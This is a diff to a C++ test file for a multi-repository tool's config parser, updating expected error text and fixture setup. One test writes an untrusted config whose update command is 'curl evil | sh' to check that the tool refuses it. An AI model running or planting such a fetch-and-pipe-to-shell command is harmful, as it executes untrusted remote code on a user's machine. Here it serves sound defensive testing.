@@ -46,7 +46,7 @@ TEST_F(BadRegistry, MalformedToml) {
 TEST_F(BadRegistry, UnknownKeys) {
   expect_refused("[repos.\"src/a\"]\nurl = \"x\"\nbrnach = \"main\"\n",
                  at(3, 1) + "unknown key 'brnach' in repo 'src/a' (expected url, branch, tags, "
-                            "order, skip, chain, transport, commands)");
+                            "order, skip, deleted, lib, chain, transport, commands)");
   expect_refused("[setings]\n", at(1, 2) + "unknown key 'setings'");
   expect_refused("[settings]\njbos = 3\n", at(2, 1) + "unknown setting 'jbos'");
 }
@@ -129,6 +129,7 @@ TEST_F(BadRegistry, MissingExplicitRegistry) {
 TEST_F(BadRegistry, UntrustedFileWithCommands) {
   const auto file = root() / "proj/.mrconfig.toml";
   write_file(file, "[repos.a]\n[repos.a.commands]\nupdate = \"curl evil | sh\"\n");
+  std::filesystem::create_directories(root() / "proj/a");
   auto r = mr({"list"}, root() / "proj");
   EXPECT_EQ(r.exit_code, 2);
   EXPECT_EQ(r.err, "mr: error: " + file.string() +
